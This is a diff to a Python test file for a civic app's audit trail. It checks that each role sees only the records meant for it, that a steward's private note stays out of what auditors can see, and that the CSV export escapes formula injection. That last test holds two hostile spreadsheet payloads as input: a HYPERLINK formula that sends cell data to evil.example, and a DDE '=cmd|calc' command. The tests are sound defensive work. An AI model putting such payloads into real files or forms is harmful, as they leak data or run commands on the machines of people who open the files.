@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
@@ -103,7 +105,9 @@ def test_the_keys_of_signers_schools_reserves_scores_and_accounts_are_in_the_tra
 def test_each_role_reads_what_is_declared_for_it(signed_in):
     from citycompact.web.site.trail import seen_by
 
-    office, steward, auditor = (set(seen_by({role}).values()) for role in ("office", "steward", "auditor"))
+    office, steward, auditor = (
+        {seen.kind for seen in seen_by({role}).values()} for role in ("office", "steward", "auditor")
+    )
     assert auditor == office | steward
     assert {"child", "city", "account"} <= office - steward
     assert {"promise", "interview"} <= steward - office
@@ -130,3 +134,35 @@ def test_the_trail_is_read_and_searched_in_spanish(signed_in, round_):
     shown = re.findall(r'<option value="([^"]+)" +>([^<]+)</option>', page)
     assert dict(shown).items() >= {"school": "escuela", "child": "niño o niña"}.items()
     assert [said for _, said in shown] == sorted(said for _, said in shown)
+
+
+def test_a_note_of_the_steward_is_no_auditors_in_the_trail_either(signed_in):
+    from citycompact.web.compact.models import Promise
+
+    promise = Promise.objects.get(pk="guide")
+    promise.private_note = "zzsecret of the steward"
+    promise.pledge = "One guide shows every school, zzpublic."
+    promise.save()
+    auditor, steward = signed_in("auditor"), signed_in("steward")
+    for word, who, there in (
+        ("zzpublic", auditor, True),
+        ("zzsecret", steward, True),
+        ("zzsecret", auditor, False),
+    ):
+        page = who.get("/office/trail/", {"q": word}).content.decode().split("<tbody>")[1]
+        assert ("guide" in page) is there, word
+    assert "zzsecret" not in auditor.get("/office/trail/", {"q": "zzpublic"}).content.decode()
+    whole = b"".join(auditor.get("/office/trail.csv").streaming_content).decode()
+    assert "zzpublic" in whole
+    assert "zzsecret" not in whole
+    assert "private_note" not in whole
+
+
+def test_the_trail_as_csv_holds_no_formula(signed_in, family):
+    client = signed_in("family")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    client.post("/family/profile/", {"name": formula, "language": "en", "phone": "", "why": "=cmd|calc!A1"})
+    whole = b"".join(signed_in("auditor").get("/office/trail.csv").streaming_content).decode()
+    cells = [cell for row in csv.reader(io.StringIO(whole)) for cell in row]
+    assert f"'{formula}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
